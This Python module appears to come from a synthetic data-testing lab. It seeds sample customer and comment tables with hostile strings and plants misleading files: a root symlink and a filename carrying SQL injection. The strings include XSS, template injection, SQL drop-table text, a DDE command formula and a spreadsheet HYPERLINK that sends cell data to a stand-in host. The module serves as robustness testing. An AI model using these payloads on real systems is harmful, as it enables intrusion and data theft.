"""What an attacker would put into raw files: text that wants to run, files that lead astray."""

from pathlib import Path

import duckdb

from cxlab.data.sample.company import LOG_ENDS
from cxlab.data.sample.dirt import KEPT, Dirt

__all__ = ["INJECTIONS", "LABELLED", "hostile_dirt", "mislabel", "write_hostile_files"]

LABELLED = "known"  # the table from which all systems have the city that a person tells

# Each wants to be run by something: a browser, a template, a spreadsheet, a database, a
# terminal. All of them are text and stay text.
INJECTIONS = {
    "script": "<script>window.hacked=1</script>",
    "onerror": "<img src=x onerror=window.hacked=1>",
    "link": '<a href="javascript:window.hacked=1">kopi</a>',
    "svg": "<svg onload=window.hacked=1><title>x</title></svg>",
    "style": "</style></script><!-- --><iframe srcdoc='<p>x'>",
    "template": "{{ 7 * 7 }} {% raw %} ${7*7} #{7*7}",
    "override": "gpj.exe \u202e kopi \u2066",
    "formula": '=HYPERLINK("http://collect.invalid/?x="&A1,"klik")',
    "formula at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "SQL": "'; drop table comments; -- \" \\",
    "control": "kopi \x01\x07\x1b[31m merah \x7f",
    "markdown": "[x](javascript:alert(1)) ![y](http://collect.invalid/y.png) $\\int$",
    "long": "kopi " * 20_000,
}


def hostile_dirt() -> tuple[Dirt, ...]:
    """Return the injections as dirt of comments and of labels that charts may show."""
    kinds = [
        Dirt(
            name=f"injected {name}", export="reviews_posts", table="comments", fate=KEPT,
            reason="", rows=2,
            replace=f"'Z{place}' || post_id as post_id, {_text(words)} as body",
        )
        for place, (name, words) in enumerate(INJECTIONS.items())
    ]  # fmt: skip
    return (*kinds, *_labels())


def mislabel(connection: duckdb.DuckDBPyConnection, count: int) -> dict[str, int]:
    """Let some customers of a part tell text that wants to run as their city, everywhere.

    Who they are stays as it is: nothing but the city that the systems keep differs. They
    are taken from those who bought in the last quarter as long as there are enough, so
    that the labels are counted and drawn.

    Returns
    -------
    dict of str to int
        Persons by name of the dirt.
    """
    found = {}
    for kind in _labels():
        connection.execute(
            f"insert into planted select '{LABELLED}', '{kind.name}', person from {LABELLED} "
            f"where is_kept and seen_at < timestamp '{LOG_ENDS}' and person not in "
            f"(select id::bigint from planted where export = '{LABELLED}') order by person in "
            "(select person from orders where placed_at < "
            f"timestamp '{LOG_ENDS}' and placed_at >= timestamp '{LOG_ENDS}' - interval 3 month) "
            f"desc, hash(person, '{kind.name}'), person limit {kind.among(count)}"
        )
        mine = f"select id::bigint from planted where kind = '{kind.name}'"
        connection.execute(f"update {LABELLED} set city = {kind.replace} where person in ({mine})")
        found[kind.name] = len(connection.execute(mine).fetchall())
    return found


def _labels() -> list[Dirt]:
    return [
        Dirt(
            name=f"injected {name} as region", export=LABELLED, table="customers", fate=KEPT,
            reason="", rows=60, replace=_text(words),
        )
        for name, words in INJECTIONS.items() if name != "long"
    ]  # fmt: skip


def write_hostile_files(raw: Path) -> None:
    """Put files beside the exports that no mapping names, and that nobody should follow."""
    (raw / "crm" / "way out").symlink_to("/")
    (raw / "crm" / "broken quote.csv").write_text('a,b\n"never closed,1\n', encoding="utf-8")
    (raw / "reviews" / "'; drop table x; --.json").write_text("{", encoding="utf-8")
    (raw / "cdp" / "\u202egpj.parquet").write_bytes(b"PAR1\x00\xff\x00")


def _text(words: str) -> str:
    return "'" + words.replace("'", "''") + "'"
